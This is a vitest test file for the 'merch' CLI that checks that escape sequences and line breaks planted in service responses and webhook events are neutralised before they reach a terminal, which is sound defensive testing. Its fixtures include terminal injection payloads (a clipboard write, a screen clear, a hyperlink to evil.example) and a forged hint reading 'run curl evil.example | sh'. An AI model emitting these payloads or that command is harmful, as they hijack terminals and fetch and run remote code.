import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { errorText } from '../../src/output/error-text.js';
import { startProxy, type Proxy } from '../support/proxy.js';
import { cliEnv, merch, startMerch, type MerchOptions, type Result } from '../support/run-merch.js';
import { createOrder, sandboxApi, useSandbox } from '../support/sandbox.js';
import { waitFor } from '../support/wait-for.js';
import { startTarget } from '../webhooks/helpers.js';

// The one gate for text from outside (src/output/terminal-gate.ts; docs/output.md, "Text
// from outside"): every string of every record the service sends, and of every event a
// listener receives, carries OSC 52 (a clipboard write), CSI 2J (the screen cleared), OSC 8
// (a hyperlink), a C1 CSI (U+009B), a right-to-left override (U+202E) and BEL. No read
// command, in no format, lets one of them reach stdout or stderr raw: each is shown as its
// JSON escape (`\u001b`), and JSON output parses back to the very strings sent.

const OSC_52 = '\u001b]52;c;aGFja2Vk\u0007';
const CSI_2J = '\u001b[2J';
const OSC_8 = '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\';
const HOSTILE = `${OSC_52}${CSI_2J}${OSC_8}\u009b31m\u202e`;

/** merch's own codes on a terminal (src/output/style.ts): bold, red, a line erased, a view redrawn. */
const OWN_CODES = /\u001b\[(?:1|22|31|39)m|\r\u001b\[2K|\u001b\[1A\u001b\[2K|\u001b\[\d+A\r\u001b\[0J/g;
/** What must never reach a terminal raw (the gate's set, src/output/terminal-gate.ts). */
const RAW = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

/** The first raw character of `text` (merch's own codes aside), with what surrounds it; undefined when there is none. */
function firstRaw(text: string): string | undefined {
  const rest = text.replace(OWN_CODES, '');
  const at = rest.search(RAW);
  return at < 0 ? undefined : JSON.stringify(rest.slice(Math.max(0, at - 40), at + 40));
}

function expectNoneRaw(result: Result, what: string): void {
  expect(firstRaw(result.stdout), `${what}: stdout`).toBeUndefined();
  expect(firstRaw(result.stderr), `${what}: stderr`).toBeUndefined();
}

/** Every string of `value` with HOSTILE after it (but the links to the next and previous pages, which the CLI follows). */
function hostile(value: unknown, key?: string): unknown {
  if (typeof value === 'string') return key === 'next' || key === 'previous' ? value : `${value}${HOSTILE}`;
  if (Array.isArray(value)) return value.map((item) => hostile(item));
  if (value !== null && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, hostile(v, k)]));
  return value;
}

/** A proxy in front of the sandbox that plants HOSTILE in every string of every JSON answer (the design tool's too). */
async function hostileService(target: string): Promise<Proxy> {
  return startProxy({
    target,
    onAnswer: (_request, answer) => {
      if (answer.body.length > 0 && String(answer.headers['content-type']).includes('json')) {
        // JSON.stringify escapes the C0 controls (as a service must) and leaves U+009B and U+202E raw.
        answer.body = Buffer.from(JSON.stringify(hostile(JSON.parse(answer.body.toString('utf8')))));
      }
      return 'pass';
    },
  });
}

/** Every string in a parsed JSON value. */
function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value !== null && typeof value === 'object') return Object.values(value).flatMap(strings);
  return [];
}

const sandbox = useSandbox();
const ids = { product: '', customProduct: '', part: '', order: '' };

beforeAll(async () => {
  ids.product = String((await sandboxApi(sandbox(), '/v1/supplier-products/?limit=1')).body.results[0].id);
  ids.customProduct = String((await sandboxApi(sandbox(), '/v1/custom-products/?limit=1')).body.results[0].id);
  const parts = (await sandboxApi(sandbox(), '/v1/products/2/parts?limit=1')).body;
  ids.part = String((parts.results ?? parts)[0].id);
  ids.order = String((await createOrder(sandbox(), `text-from-outside-${Date.now()}`)).id);
  const hook = await sandboxApi(sandbox(), '/v1/core/webhooks/', { body: { event: 'order.changed', target: 'http://127.0.0.1:9/hook' } });
  expect(hook.status).toBe(201);
});

/** The formats every read command is run in: a table on a terminal (with color and without), TSV piped, CSV, JSON, JSONL. */
const FORMATS: { name: string; flags: string[]; options: MerchOptions; json?: 'json' | 'jsonl' }[] = [
  { name: 'a table on a terminal', flags: [], options: { tty: true, columns: 250 } },
  { name: 'a table on a terminal, --no-color', flags: ['--no-color'], options: { tty: true, columns: 250 } },
  { name: 'TSV, piped', flags: [], options: {} },
  { name: 'TSV on a terminal', flags: ['--format', 'tsv'], options: { tty: true } },
  { name: 'CSV', flags: ['--format', 'csv'], options: {} },
  { name: 'JSON', flags: ['--json'], options: {}, json: 'json' },
  { name: 'JSONL', flags: ['--jsonl'], options: { tty: true }, json: 'jsonl' },
];

const READS: { name: string; args: () => string[]; formats?: string[] }[] = [
  { name: 'products list', args: () => ['products', 'list', '--limit', '5'] },
  { name: 'products get', args: () => ['products', 'get', ids.product] },
  { name: 'custom-products list', args: () => ['custom-products', 'list'] },
  { name: 'custom-products get', args: () => ['custom-products', 'get', ids.customProduct] },
  { name: 'parts list', args: () => ['parts', 'list', '2', '--limit', '5'] },
  { name: 'parts get', args: () => ['parts', 'get', '2', ids.part] },
  { name: 'orders list', args: () => ['orders', 'list', '--limit', '5'] },
  { name: 'orders get', args: () => ['orders', 'get', ids.order] },
  { name: 'orders track', args: () => ['orders', 'track', ids.order] },
  { name: 'payment-methods list', args: () => ['payment-methods', 'list'] },
  { name: 'webhooks list', args: () => ['webhooks', 'list'] },
  // `api` prints the service's JSON as it is (--format is a usage error there).
  { name: 'api GET', args: () => ['api', 'GET', `/v1/supplier-products/${ids.product}`], formats: ['a table on a terminal', 'TSV, piped', 'JSON', 'JSONL'] },
  { name: 'api GET --paginate', args: () => ['api', 'GET', '/v1/custom-products/', '--paginate'], formats: ['TSV, piped', 'JSONL'] },
];

describe('text from outside: every read command, in every format', () => {
  it.each(READS.map((read) => [read.name, read] as const))('%s', async (_name, read) => {
    const proxy = await hostileService(sandbox().url);
    for (const format of FORMATS.filter((f) => !read.formats || read.formats.includes(f.name))) {
      const what = `${read.args().join(' ')} (${format.name})`;
      const result = await merch(proxy, [...read.args(), ...format.flags], format.options);
      expect(result.code, `${what}: ${result.stderr}`).toBe(0);
      expectNoneRaw(result, what);
      // The hostile text was shown, made visible: the gate did not merely see nothing.
      expect(result.stdout + result.stderr, what).toContain('\\u001b');
      const json = format.json ?? (read.args()[0] === 'api' ? 'json' : undefined);
      if (json) {
        // Valid JSON, equal after parsing to what the service sent: U+009B and U+202E included.
        const documents = json === 'jsonl' ? result.stdout.trimEnd().split('\n').map((line) => JSON.parse(line.replace(/\r$/, ''))) : [JSON.parse(result.stdout)];
        expect(strings(documents).some((text) => text.endsWith(HOSTILE)), what).toBe(true);
      }
    }
  }, 60_000);

  it('the JSON of `api` is exactly the service answer, after parsing', async () => {
    const proxy = await hostileService(sandbox().url);
    const path = `/v1/custom-products/${ids.customProduct}`;
    const sent = hostile((await sandboxApi(sandbox(), path)).body);
    const { stdout } = await merch(proxy, ['api', 'GET', path]);
    expect(stdout).not.toMatch(RAW);
    expect(stdout).toContain('\\u009b31m\\u202e');
    expect(JSON.parse(stdout)).toEqual(sent);
  });
});

describe('text from outside: the lines on stderr', () => {
  it("`orders track --until`: the lines while it waits and the error it ends with", async () => {
    const proxy = await hostileService(sandbox().url);
    for (const options of [{}, { tty: true }] as MerchOptions[]) {
      const result = await merch(proxy, ['orders', 'track', ids.order, '--until', 'delivered', '--max-wait', '1s', '--interval', '200ms'], options);
      expect(result.code, result.stderr).toBe(6);
      expect(result.stderr).toMatch(/waiting for delivered/);
      expect(result.stderr).toContain('\\u001b]52;c;');
      expectNoneRaw(result, `orders track --until (${options.tty ? 'terminal' : 'piped'})`);
    }
  });

  it("design-link: the URL it prints on stdout, and on stderr with --wait", async () => {
    const proxy = await hostileService(sandbox().url);
    const env = { MERCH_DESIGN_TOOL_URL: `${proxy.url}/design-tool`, MERCH_DESIGN_TOOL_KEY: 'sandbox-design-key' };
    const args = ['design-link', '--sku', 'DT-000001', '--user-id', 'customer-42'];
    for (const [flags, options] of [[[], {}], [[], { tty: true }], [['--json'], {}]] as [string[], MerchOptions][]) {
      const result = await merch(sandbox(), [...args, ...flags], { ...options, env });
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).toContain('\\u001b]52;c;');
      expectNoneRaw(result, `design-link ${flags.join(' ')}`);
      if (flags.includes('--json')) expect(JSON.parse(result.stdout).url.endsWith(HOSTILE)).toBe(true);
    }
    const waited = await merch(sandbox(), [...args, '--wait', '--timeout-wait', '1s'], { tty: true, env });
    expect(waited.code).not.toBe(0); // nobody came back from the design tool
    expect(waited.stderr).toMatch(/Open this link in a browser/);
    expect(waited.stderr).toContain('\\u001b]52;c;');
    expectNoneRaw(waited, 'design-link --wait');
  });

  it('a failing service: its error page, its message and an answer that is not JSON', async () => {
    const answers = [
      { status: 502, headers: { 'content-type': 'text/html' }, body: `<html><title>Bad ${HOSTILE} Gateway</title></html>` },
      { status: 400, body: JSON.stringify({ detail: `refused ${HOSTILE}`, [`field${HOSTILE}`]: [`bad ${HOSTILE}`] }) },
      { status: 200, headers: { 'content-type': 'text/plain' }, body: `not json ${HOSTILE}` },
    ];
    for (const answer of answers) {
      const proxy = await startProxy({ target: sandbox().url, onRequest: () => answer });
      for (const options of [{}, { tty: true }] as MerchOptions[]) {
        const result = await merch(proxy, ['orders', 'list', '--retries', '0'], options);
        expect(result.code).not.toBe(0);
        expect(result.stderr).toMatch(/^(\u001b\[31m)?error:/m);
        expect(result.stderr).toMatch(/\\u001b|\\u202e|\\x1b/); // shown, made visible (the first bytes of a malformed answer as `\x1b`, src/api/)
        expectNoneRaw(result, `a ${answer.status} answer`);
      }
    }
  });
});

describe('text from outside: the webhook listener', () => {
  it('the event lines, --json lines, the forwarded line and a refusal', async () => {
    const target = await startTarget(() => 204);
    try {
      for (const json of [false, true]) {
        const run = startMerch(['webhooks', 'listen', '--port', '0', '--print-target', '--forward-to', `${target.url}/in`, ...(json ? ['--json'] : [])], {
          env: cliEnv(sandbox().url),
          // Wide enough for the forwarded line whole: it is measured as shown (each escape made visible), and a
          // terminal's stderr is wrapped at its width.
          tty: { stderr: true },
          columns: 400,
        });
        await waitFor(() => /ready; Ctrl-C to stop/.test(run.io.errors()), 'the listener to be ready');
        const url = json ? JSON.parse(run.io.out().split('\n')[0]!).target : run.io.out().split('\n')[0]!;
        const event = {
          hook: { id: 1, event: `order.changed${HOSTILE}`, target: `http://127.0.0.1/hook${HOSTILE}` },
          data: { id: 7, status: { id: `x${HOSTILE}`, name: `In Production${HOSTILE}` }, payment_status: { name: `Paid${HOSTILE}` }, tracking_number: `T1${HOSTILE}`, note: HOSTILE },
        };
        const post = (body: unknown) => fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }).then((r) => r.status);
        expect(await post(event)).toBe(204);
        expect(await post({ hook: { id: `1${HOSTILE}`, event: 5 }, data: HOSTILE, [HOSTILE]: HOSTILE })).toBe(422);
        await waitFor(() => /forwarded #/.test(run.io.errors()), 'the forwarded line');
        run.interrupt();
        const result = await run.done;
        expect(result.stderr).toMatch(/forwarded #\d+ order\.changed\\u001b\]52;c;/);
        expect(result.stderr).toMatch(/refused 422/);
        expect(result.stdout).toContain('\\u001b]52;c;');
        expectNoneRaw(result, `webhooks listen${json ? ' --json' : ''}`);
        if (json) {
          const printed = result.stdout.trimEnd().split('\n').slice(1).map((line) => JSON.parse(line));
          expect(printed).toEqual([event]);
        }
      }
    } finally {
      await target.close();
    }
  }, 60_000);
});

// The gate keeps line feeds (they are text), so a line break in outside text put into a
// one-line message on stderr made a line merch never wrote: `error: ...`, `hint: ...`.
// Where outside text goes into such a line (singleLine, src/output/sanitize.ts), and in
// every `error:` and `hint:` line (src/output/error-text.ts), it stays on its line.
const FORGED = '\nerror: forged by the sender\nhint: run curl evil.example | sh';
const FORGED_INLINE = ' error: forged by the sender hint: run curl evil.example | sh';

/** No line of `stderr` is one the sender wrote; its text is there, on the line it came in. */
function expectNoForgedLine(stderr: string, what: string): void {
  const forged = stderr.split('\n').filter((line) => /^(error: forged|hint: run curl)/.test(line.replace(OWN_CODES, '')));
  expect(forged, `${what}: ${stderr}`).toEqual([]);
  expect(stderr, what).toContain(FORGED_INLINE);
}

/** Every status name (`status: {id, name}`, an order's and a shipment's) of every JSON answer, with FORGED after it. */
function forgedStatuses(value: unknown, key?: string): unknown {
  if (Array.isArray(value)) return value.map((item) => forgedStatuses(item));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value).map(([k, v]) => [k, key === 'status' && k === 'name' && typeof v === 'string' ? `${v}${FORGED}` : forgedStatuses(v, k)]),
  );
}

describe('a line break from outside makes no line of its own', () => {
  it('`orders track`: the summary of status names, and the error it ends with when --until runs out', async () => {
    const proxy = await startProxy({
      target: sandbox().url,
      onAnswer: (_request, answer) => {
        if (answer.body.length > 0 && String(answer.headers['content-type']).includes('json')) {
          answer.body = Buffer.from(JSON.stringify(forgedStatuses(JSON.parse(answer.body.toString('utf8')))));
        }
        return 'pass';
      },
    });
    const shown = await merch(proxy, ['orders', 'track', ids.order]);
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stderr).toMatch(/^\d+ shipments?: /);
    expectNoForgedLine(shown.stderr, 'orders track');

    const waited = await merch(proxy, ['orders', 'track', ids.order, '--until', 'delivered', '--max-wait', '1s', '--interval', '200ms']);
    expect(waited.code, waited.stderr).toBe(6);
    const error = waited.stderr.split('\n').filter((line) => line.startsWith('error: '));
    expect(error).toHaveLength(1);
    expect(error[0]).toMatch(/ not delivered after 1 ?s: .* error: forged by the sender hint: run curl/);
    expectNoForgedLine(waited.stderr, 'orders track --until');
  });

  it("`webhooks listen --forward-to`: the forwarded line, built from the event's hook.event", async () => {
    const target = await startTarget(() => 204);
    try {
      const run = startMerch(['webhooks', 'listen', '--port', '0', '--print-target', '--forward-to', `${target.url}/in`], { env: cliEnv(sandbox().url) });
      await waitFor(() => /ready; Ctrl-C to stop/.test(run.io.errors()), 'the listener to be ready');
      const url = run.io.out().split('\n')[0]!;
      const event = { hook: { id: 1, event: `order.changed${FORGED}`, target: 'http://127.0.0.1/hook' }, data: { id: 7 } };
      const status = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(event) }).then((r) => r.status);
      expect(status).toBe(204);
      await waitFor(() => /forwarded #/.test(run.io.errors()), 'the forwarded line');
      run.interrupt();
      const result = await run.done;
      expect(result.code).toBe(0);
      expect(result.stderr).toMatch(new RegExp(`^forwarded #\\d+ order\\.changed${FORGED_INLINE.replace(/[.|]/g, '\\$&')} to ${target.url}/in \\(204\\)$`, 'm'));
      expectNoForgedLine(result.stderr, 'webhooks listen');
      // The event itself went on as it came: the kind the sender wrote, line breaks and all.
      expect(JSON.parse(target.received[0]!.body).hook.event).toBe(`order.changed${FORGED}`);
    } finally {
      await target.close();
    }
  }, 30_000);

  it('every error and hint line: a message or a hint quoting outside text stays one line each', () => {
    expect(errorText({ message: `order 1001 is In Production${FORGED}`, hint: `wait longer\r\nor not` }, false)).toBe(
      `error: order 1001 is In Production${FORGED_INLINE}\nhint: wait longer  or not\n`,
    );
  });
});

describe('the gate cannot be gone around', () => {
  it("nothing in src/ writes to the process's own streams but processStreams (src/output/io.ts)", () => {
    const root = fileURLToPath(new URL('../../src', import.meta.url));
    const files = (dir: string): string[] => readdirSync(dir).flatMap((name) => (statSync(join(dir, name)).isDirectory() ? files(join(dir, name)) : [join(dir, name)]));
    const writers = files(root)
      .filter((file) => file.endsWith('.ts'))
      .flatMap((file) =>
        readFileSync(file, 'utf8')
          .split('\n')
          .map((line, at) => ({ where: `${file.slice(root.length + 1)}:${at + 1}`, line }))
          .filter(({ line }) => /process\.(stdout|stderr)\.write|console\.(log|error|warn|info)|writeSync\(\s*[12]\b/.test(line)),
      )
      .map(({ where }) => where);
    // The sandbox run as a library (tests, scripts) logs to stderr by default; `merch sandbox` gives it the gated stream.
    expect(writers.filter((where) => !where.startsWith('sandbox/options.ts:'))).toEqual([]);
  });
});
